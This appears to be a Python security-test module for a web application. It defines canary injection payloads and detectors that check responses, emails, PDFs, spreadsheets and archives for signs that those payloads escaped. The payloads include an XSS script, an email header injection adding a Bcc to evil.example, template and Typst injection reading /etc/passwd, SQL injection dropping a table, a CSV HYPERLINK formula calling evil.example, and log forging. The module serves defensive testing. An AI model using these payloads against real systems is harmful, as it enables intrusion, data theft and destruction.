"""Words that break out of wherever they are not kept as words, and the eyes that see it."""

import csv
import io
import re
import zipfile
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from email.message import EmailMessage
from html.parser import HTMLParser
from typing import Any
from urllib.parse import urlsplit

import pypdfium2

MARK = "KNRY"
SUM = "7919*7907*7901"
RECKONED = str(7919 * 7907 * 7901)
"""What stands on a page only if somebody reckoned `SUM` there."""
_OUT_OF_A_PROGRAM = re.compile(rf"^\s*alert\('{MARK}'\)|<b id=knry>|{MARK}\"'>")
"""What of a canary runs, or ends a string, if it stands raw in a script or a style."""
_EVENT = re.compile(r"^on\w+$")
_FORMULA = re.compile(r"^\s*[=+\-@\t\r]")


@dataclass(frozen=True)
class Canary:
    kind: str
    text: str


CANARIES = (
    Canary("html", f"{MARK}\"'><b id=knry></b><img src=x onerror=alert(1)><script>alert('{MARK}')</script>"),
    Canary("header", f"{MARK}\r\nBcc: knry@evil.example\r\nX-Knry: 1\r\n\r\n{MARK}"),
    Canary("template", f"{MARK}{{{{{SUM}}}}}{{% load static %}}${{{SUM}}}#{{{SUM}}}<%={SUM}%>%(x)s {{0}}"),
    Canary("typst", f'{MARK} #({SUM}) #read("/etc/passwd") #eval("{SUM}") $x$ @a <b> `c` [d] \\'),
    Canary("sql", f"{MARK}'; SELECT pg_sleep(9); DROP TABLE cases_case; --"),
    Canary("csv", f'=HYPERLINK("http://evil.example/{MARK}";"{MARK}")'),
    Canary("log", f"{MARK}\n2026-01-01 00:00:00 CRITICAL {MARK} forged"),
    Canary("url", f"http://127.0.0.1:9/{MARK}"),
    Canary("link", f"javascript:alert('{MARK}')"),
)
SMOKE = ("html", "header", "typst")


def chosen(size: str) -> tuple[Canary, ...]:
    return tuple(canary for canary in CANARIES if size != "smoke" or canary.kind in SMOKE)


def faults_in(response: Any) -> Iterator[str]:
    """What broke out on an answer of ours."""
    content = b"".join(response.streaming_content) if response.streaming else response.content
    kind = str(response.headers.get("Content-Type", "")).partition(";")[0]
    if response.status_code >= 500:
        yield f"status {response.status_code}"
    if "X-Knry" in response.headers:
        yield "a header of its own"
    if leads_away(response):
        yield f"it leads away: {response.headers['Location'][:60]}"
    yield from _READERS.get(kind, _of_nothing)(content)
    if not kind.startswith(("application/pdf", "image/p", "image/j", "audio/")):
        yield from _reckoned(content.decode("utf-8", "replace"))


def leads_away(response: Any) -> bool:
    """A redirect to another host than ours."""
    host = urlsplit(response.headers.get("Location", "")).hostname
    return bool(host) and not str(host).endswith("localhost")


def faults_of_mail(message: EmailMessage, addresses: set[str]) -> Iterator[str]:
    """:param addresses: to which a message may go."""
    headers = {name.lower() for name in message}  # type: ignore[attr-defined]
    if headers & {"bcc", "x-knry"}:
        yield "a header of its own"
    to = {str(message["To"] or "").strip()}
    if not to <= addresses:
        yield f"it goes to {to - addresses}"
    for part in message.walk():
        if part.get_content_type() == "text/html":
            yield from _Eyes.faults(str(part.get_payload(decode=True), "utf-8"))
    yield from _reckoned(message.as_string())


def text_of(pdf: bytes) -> str:
    """Its words; none if it is a stranger's that has no page."""
    try:
        document = pypdfium2.PdfDocument(pdf)
    except pypdfium2.PdfiumError:
        return ""
    return "".join(page.get_textpage().get_text_bounded() for page in document)


def _reckoned(text: str) -> Iterator[str]:
    if RECKONED in text or "root:x:0" in text:
        yield "somebody reckoned or read what was typed"


def _of_nothing(content: bytes) -> Iterator[str]:
    yield from ()


def _of_page(content: bytes) -> Iterator[str]:
    yield from _Eyes.faults(content.decode())


def _of_paper(content: bytes) -> Iterator[str]:
    yield from _reckoned(text_of(content))


def _formulas(content: bytes) -> Iterator[str]:
    for row in csv.reader(io.StringIO(content.decode("utf-8-sig"))):
        yield from (f"a formula: {cell[:40]}" for cell in row if MARK in cell and _FORMULA.match(cell))


def _formulas_of_workbook(content: bytes) -> Iterator[str]:
    with zipfile.ZipFile(io.BytesIO(content)) as workbook:
        for name in workbook.namelist():
            if re.search(rb"<f[ >][^<]*" + MARK.encode(), workbook.read(name)):
                yield f"a formula in {name}"


def _of_archive(content: bytes) -> Iterator[str]:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        for name in archive.namelist():
            if name.startswith("/") or ".." in name or re.search(r"[\x00-\x1f\\<>\"]", name):
                yield f"the name {name!r} in an archive"
            if name.endswith((".html", ".svg")):
                yield from _of_page(archive.read(name))
            elif name.endswith(".csv"):
                yield from _formulas(archive.read(name))


class _Eyes(HTMLParser):
    """Sees elements and attributes that only a canary brings."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []
        self._program = ""

    @classmethod
    def faults(cls, page: str) -> list[str]:
        eyes = cls()
        eyes.feed(page)
        return eyes.found

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self._program = tag if tag in ("script", "style") else ""
        for name, value in attrs:
            if (name, value) == ("id", "knry") or _EVENT.match(name):
                self.found.append(f"<{tag} {name}={value!r}>")
            if name in ("href", "src", "action") and (value or "").strip().lower().startswith("javascript:"):
                self.found.append(f"<{tag} {name}={value!r}>")

    def handle_endtag(self, tag: str) -> None:
        self._program = ""

    def handle_data(self, data: str) -> None:
        if self._program and _OUT_OF_A_PROGRAM.search(data):
            self.found.append(f"a {self._program}: {data[:60]}")


_READERS: dict[str, Callable[[bytes], Iterator[str]]] = {
    "text/html": _of_page,
    "image/svg+xml": _of_page,
    "text/csv": _formulas,
    "application/pdf": _of_paper,
    "application/zip": _of_archive,
    "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet": _formulas_of_workbook,
}
